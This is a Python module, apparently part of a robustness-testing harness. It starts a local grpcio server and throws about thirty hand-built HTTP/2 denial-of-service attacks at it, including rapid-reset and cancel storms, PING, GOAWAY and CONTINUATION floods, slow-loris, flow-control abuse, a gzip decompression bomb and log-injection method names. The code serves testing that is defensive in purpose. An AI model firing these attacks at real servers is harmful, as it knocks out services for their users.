"""The adapter of grpcio's asyncio server, with attacks in hand-written HTTP/2.

`python -m hostile.peer_grpcio plain DIRECTORY` runs the server. The attacks send raw bytes, so they
can use HTTP/2 in ways that grpcio's own client would not. Header fields are literals without
indexing.
"""

from __future__ import annotations

import asyncio
import struct
import sys
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Final

import grpc

from . import sockets
from .attacker import Attacker, Function, Line
from .attacks import Setting
from .bombs import packed_zeros
from .peer import PATIENCE, Call, Peer, Place, own_server

__all__ = ["PEER"]

_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_INITIAL_WINDOW: Final = 4  # SETTINGS_INITIAL_WINDOW_SIZE
_MANY: Final = 1000
_CALLS: Final = 100  # concurrent streams that we open; a server may allow fewer
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


# --- the server ---


class _Victim(grpc.GenericRpcHandler):  # type: ignore[misc]  # grpcio has no types
    def service(self, details: Any) -> Any:
        name = details.method.rpartition("/")[2]
        if name == "items":
            return grpc.unary_stream_rpc_method_handler(_items)
        if name == "sink":
            return grpc.stream_unary_rpc_method_handler(_sink)
        method = _UNARY.get(name)
        return None if method is None else grpc.unary_unary_rpc_method_handler(method)


async def _echo(request: bytes, _: Any) -> bytes:
    return request


async def _hold(_: bytes, __: Any) -> bytes:
    await asyncio.Event().wait()
    return b""


async def _big(_: bytes, __: Any) -> bytes:
    return bytes(2**20)


async def _fail(request: bytes, _: Any) -> bytes:
    raise ValueError(request)


async def _bad_result(_: bytes, __: Any) -> Any:
    return 1j


async def _items(_: bytes, __: Any) -> AsyncIterator[bytes]:
    while True:
        yield bytes(1024)


async def _sink(_: AsyncIterator[bytes], __: Any) -> bytes:
    await asyncio.Event().wait()
    return b""


_UNARY: Final = {
    "echo": _echo, "hold": _hold, "big": _big, "fail": _fail, "bad_result": _bad_result
}  # fmt: skip


async def _serve(setting: Setting, directory: Path) -> None:
    server = grpc.aio.server()
    server.add_generic_rpc_handlers((_Victim(),))
    if setting == "tls":
        pem = (directory / "server.pem").read_bytes()
        credentials = grpc.ssl_server_credentials([(pem, pem)])
        port = server.add_secure_port("127.0.0.1:0", credentials)
    else:
        port = server.add_insecure_port("127.0.0.1:0")
    await server.start()
    print(f"ready: grpc://127.0.0.1:{port}", flush=True)
    await server.wait_for_termination()


@contextmanager
def _dial(place: Place) -> Iterator[Call]:
    address = f"{place.host}:{place.port}"
    options = (("grpc.use_local_subchannel_pool", 1),)  # gives each newcomer its own connection
    if place.setting == "tls":
        credentials = grpc.ssl_channel_credentials((place.directory / "ca.pem").read_bytes())
        channel = grpc.secure_channel(address, credentials, options)
    else:
        channel = grpc.insecure_channel(address, options)
    with channel:
        method = channel.unary_unary("/v/echo")

        def call() -> None:
            assert method(b"good", timeout=PATIENCE) == b"good"

        yield call


# --- HTTP/2 ---


def _frame(type_: int, stream: int = 0, payload: bytes = b"", flags: int = 0) -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes((type_, flags))
    return head + stream.to_bytes(4, "big") + payload


def _field(name: str, value: str) -> bytes:
    return b"\x00" + _text(name) + _text(value)


def _text(text: str) -> bytes:
    data = text.encode()
    if len(data) < 127:
        return bytes((len(data),)) + data
    more, length = b"", len(data) - 127
    while length > 127:
        more += bytes((length & 127 | 128,))
        length >>= 7
    return b"\x7f" + more + bytes((length,)) + data


def _fields(method: str, **more: str) -> bytes:
    known = {":method": "POST", ":scheme": "http", ":path": f"/v/{method}", ":authority": "x"}
    known |= {"content-type": "application/grpc", "te": "trailers"}
    added = {name.replace("_", "-"): value for name, value in more.items()}
    return b"".join(_field(*pair) for pair in (known | added).items())


def _message(data: bytes = b"", flags: int = 0) -> bytes:
    return struct.pack(">BI", flags, len(data)) + data


def _call(stream: int, method: str, data: bytes = b"") -> bytes:
    return _open(stream, method) + _frame(_DATA, stream, _message(data), _END_STREAM)


def _open(stream: int, method: str, **more: str) -> bytes:
    return _frame(_HEADERS, stream, _fields(method, **more), _END_HEADERS)


def _window(stream: int, delta: int) -> bytes:
    return _frame(_WINDOW, stream, delta.to_bytes(4, "big"))


def _settings(**pairs: int) -> bytes:
    known = {"window": _INITIAL_WINDOW}
    payload = b"".join(struct.pack(">HI", known[name], value) for name, value in pairs.items())
    return _frame(_SETTINGS, 0, payload)


_GREETING: Final = _PREFACE + _settings()
_RESET: Final = (8).to_bytes(4, "big")  # CANCEL


def _ready(attacker: Attacker, *, deaf: bool = False, **settings: int) -> Line:
    line = attacker.dial(4096 if deaf else None)
    line.send(_PREFACE + _settings(**settings) + _frame(_SETTINGS, flags=1), 0)
    return line


def _streams(start: int = 1) -> Iterator[int]:
    return iter(range(start, 2**31, 2))


# --- attacks, named as in `attacks` ---


def _rapid_cancel(attacker: Attacker) -> None:
    line = _ready(attacker)
    for stream in _streams():
        line.send(_call(stream, "hold") + _frame(_RST, stream, _RESET), 3)
        line.drain()


def _rapid_cancel_unread(attacker: Attacker) -> None:
    for _ in range(20):
        storm = (_call(s, "hold") + _frame(_RST, s, _RESET) for s in range(1, 2049, 2))
        _ready(attacker, deaf=True).send(b"".join(storm), 3 * 1024)
    attacker.hold(0.1)


def _made_resets(attacker: Attacker) -> None:
    line = _ready(attacker)
    for stream in _streams():  # a delta of 0 makes the server reset the stream
        line.send(_call(stream, "hold") + _window(stream, 0), 3)
        line.drain()


def _in_turn(method: str, *contents: bytes) -> Function:
    """Make an attack that sends batches of a hundred calls, and discards answers after each."""

    def attack(attacker: Attacker) -> None:
        line = _ready(attacker)
        line.send(_window(0, 2**30), 0)
        streams = _streams()
        while True:
            for number in range(_CALLS):
                content = contents[number % len(contents)]
                line.send(_call(next(streams), method, content), 2)
            line.drain()

    return attack


def _flood_of(data: bytes) -> Function:
    def attack(attacker: Attacker) -> None:
        _ready(attacker, deaf=True).flood(data * _MANY, _MANY)

    return attack


def _late_frames(attacker: Attacker) -> None:
    line = _ready(attacker)
    line.send(_call(1, "echo"))
    line.receive()
    attacker.sleep(0.05)
    line.flood((_window(1, 1) + _frame(_RST, 1, _RESET)) * _MANY, 2 * _MANY)


def _tiny_credits(attacker: Attacker) -> None:
    line = _ready(attacker, window=1)
    streams = range(1, 2 * _CALLS, 2)
    line.send(b"".join(_call(stream, "items") for stream in streams), 0)
    more = b"".join(_window(stream, 1) for stream in streams) * 10
    while True:
        line.send(more, len(streams) * 10)
        line.drain()


def _tiny_data(attacker: Attacker) -> None:
    line = _ready(attacker)
    streams = range(1, 2 * _CALLS, 2)
    line.send(b"".join(_open(stream, "sink") for stream in streams), 0)
    line.send(b"".join(_frame(_DATA, stream, b"\0\0\1\0\0") for stream in streams), 100)
    data = b"".join(_frame(_DATA, stream, b"x") for stream in streams)
    for _ in range(300):
        line.send(data, len(streams))
        line.drain()


def _results_unread(attacker: Attacker) -> None:
    for _ in range(10):
        line = _ready(attacker, deaf=True, window=2**31 - 1)
        calls = b"".join(_call(stream, "big") for stream in range(1, 2049, 2))
        line.send(_window(0, 2**30) + calls, 1024)
    attacker.hold()


def _empty_frames(attacker: Attacker) -> None:
    line = _ready(attacker)
    line.send(_open(1, "sink"))
    line.flood(_frame(_DATA, 1) * _MANY, _MANY)


def _tiny_parts(attacker: Attacker) -> None:
    line = _ready(attacker)
    line.send(_frame(_HEADERS, 1, _fields("echo")))
    line.flood(_frame(_CONTINUATION, 1, b"\x00\x01x\x01x"[:1]) * _MANY, _MANY)


def _endless_messages(attacker: Attacker) -> None:
    line = _ready(attacker)
    line.send(b"".join(_open(stream, "sink") for stream in range(1, 201, 2)))
    for stream in range(1, 201, 2):
        line.send(_frame(_DATA, stream, struct.pack(">BI", 0, 4 * 2**20)))
    while True:
        for stream in range(1, 201, 2):
            line.send(_frame(_DATA, stream, bytes(600)))
            line.drain()


def _window_overflow(attacker: Attacker) -> None:
    line = _ready(attacker)
    line.send(_call(1, "items") + _window(1, 2**31 - 1) + _window(0, 2**31 - 1), 3)
    attacker.hold(0.3)  # the server may tolerate the overflow
    line = _ready(attacker)
    line.send(_open(1, "sink") + _frame(_DATA, 1, bytes(16_384)) * 1000, 1000)
    attacker.hold(0.3)


def _stalled_items(attacker: Attacker) -> None:
    for _ in range(10):
        line = _ready(attacker, deaf=True)
        line.send(b"".join(_call(s, "items") for s in range(1, 2 * _CALLS, 2)), _CALLS)
    attacker.hold()


def _stalled_data(attacker: Attacker) -> None:
    for _ in range(10):
        line = _ready(attacker)
        for stream in range(1, 2 * _CALLS, 2):
            line.send(_open(stream, "sink") + _frame(_DATA, stream, _message(bytes(600))), 2)
        line.drain()
    attacker.hold()


def _broken_promises(attacker: Attacker) -> None:
    line = _ready(attacker)
    promise = struct.pack(">BI", 0, 2**20) + bytes(500)
    line.send(b"".join(_open(s, "echo") + _frame(_DATA, s, promise) for s in range(1, 201, 2)), 200)
    line.send(_frame(_DATA, 1, bytes(16_384))[:1000])
    attacker.hold()


def _decompression_bomb(attacker: Attacker) -> None:
    bomb = _message(packed_zeros(31), 1)
    pieces = [bomb[at : at + 16_384] for at in range(0, len(bomb), 16_384)]
    while True:
        line = _ready(attacker)
        line.send(_open(1, "echo", grpc_encoding="gzip"), 0)
        for piece in pieces[:-1]:
            line.send(_frame(_DATA, 1, piece), 0)
            line.drain()
        line.send(_frame(_DATA, 1, pieces[-1], _END_STREAM))
        attacker.sleep(0.2)


_NAMES: Final = ("__class__", "_hold", "a\nb", "\x1b[31m", "%s{0}", "x" * 5000)
_OPENINGS: Final = (
    _GREETING,
    _GREETING + b"".join(_call(stream, "hold") for stream in range(1, 101, 2)),
    _GREETING + b"".join(_call(stream, "items") for stream in range(1, 41, 2)),
    _GREETING + _open(1, "sink") + _frame(_DATA, 1, _message(bytes(10_000))),
    _GREETING + _call(1, "big") + _call(3, "echo", bytes(1000))[:-500],
)
_FUNCTIONS: Final[dict[str, Function]] = {
    "peace": sockets.peace,
    "rapid cancel": _rapid_cancel,
    "rapid cancel, unread": _rapid_cancel_unread,
    "made resets": _made_resets,
    "refused calls": _in_turn("no_such_method", b""),
    "ping flood": _flood_of(_frame(_PING, 0, b"attacker")),
    "goaway flood": _flood_of(_frame(_GOAWAY, 0, bytes(8) + b"x" * 100)),
    "second hello": _flood_of(_settings(window=2**16)),
    "late frames": _late_frames,
    "tiny credits": _tiny_credits,
    "tiny data": _tiny_data,
    "results unread": _results_unread,
    "empty frames": _empty_frames,
    "tiny parts": _tiny_parts,
    "endless messages": _endless_messages,
    "window overflow": _window_overflow,
    "length bombs": sockets.say(
        b"\xff\xff\xff\x00\x00\x00\x00\x00\x01",
        _open(1, "echo") + _frame(_DATA, 1, b"\x00\xff\xff\xff\xff"),
        _open(1, "echo") + b"\x00\x40\x00\x00\x00\x00\x00\x00\x01x",
        prefix=_GREETING,
        count=100,
        pause=0.5,
    ),
    "wrong protocols": sockets.wrong_protocols,
    "slow-loris": sockets.drip(_GREETING),
    "slow-loris, admitted": sockets.drip(_call(1, "echo", b"x" * 100), prefix=_GREETING, count=200),
    "idle": sockets.idle,
    "stalled items": _stalled_items,
    "stalled data": _stalled_data,
    "broken promises": _broken_promises,
    "versions": sockets.say(
        *(_PREFACE.replace(b"2.0", b"%d.0" % number) for number in range(10)),
        *(_PREFACE + _frame(_SETTINGS, 0, struct.pack(">HI", 4, 2**32 - 1)) for _ in range(10)),
    ),
    "bad results": _in_turn("bad_result", b""),
    "names": sockets.say(*(_call(1, name) for name in _NAMES), prefix=_GREETING, count=20),
    "log flood": _in_turn("fail", b"two\nlines", b"\x1b[31mred", b"x" * 1000),
    "decompression bomb": _decompression_bomb,
    "half handshakes": sockets.half_handshakes,
    "connect and close": sockets.connect_and_close,
    "hoard": sockets.hoard(_GREETING),
    "reset storm": sockets.reset_storm(*_OPENINGS),
}

PEER: Final = Peer(
    "grpcio",
    lambda setting, directory: own_server("grpcio", setting, directory),
    _dial,
    _FUNCTIONS,
    frozenset(("plain", "tls")),
)

if __name__ == "__main__":
    asyncio.run(_serve("tls" if sys.argv[1] == "tls" else "plain", Path(sys.argv[2])))
